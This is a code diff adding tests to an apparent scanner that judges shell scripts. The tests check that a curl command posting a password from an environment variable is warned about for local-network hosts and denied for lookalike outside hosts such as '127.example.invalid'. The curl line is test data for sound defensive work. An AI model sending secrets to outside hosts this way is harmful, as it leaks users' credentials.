@@ -229,3 +229,15 @@ describe("line ends of DOS", () => {
     expect([hit?.range.startLine, hit?.range.startColumn, hit?.snippet]).toEqual([4, 34, "sh"]);
   });
 });
+
+describe("a password of one's own", () => {
+  const login = (host: string): string =>
+    verdictOf({ "scripts/a.sh": `curl -s -X POST "http://${host}:3000/login" -d "{\\"password\\":\\"\${SHELF_PASSWORD}\\"}"\n` });
+
+  it.each(["192.168.1.20", "10.0.0.7", "172.20.1.1", "localhost", "127.0.0.1"])("may go to a machine in one's own network: %s", (host) => {
+    expect(login(host)).toBe("warn");
+  });
+  it.each(["192.168.1.20.example.invalid", "172.40.1.1", "localhost.example.invalid", "127.example.invalid"])("and not to %s", (host) => {
+    expect(login(host)).toBe("deny");
+  });
+});
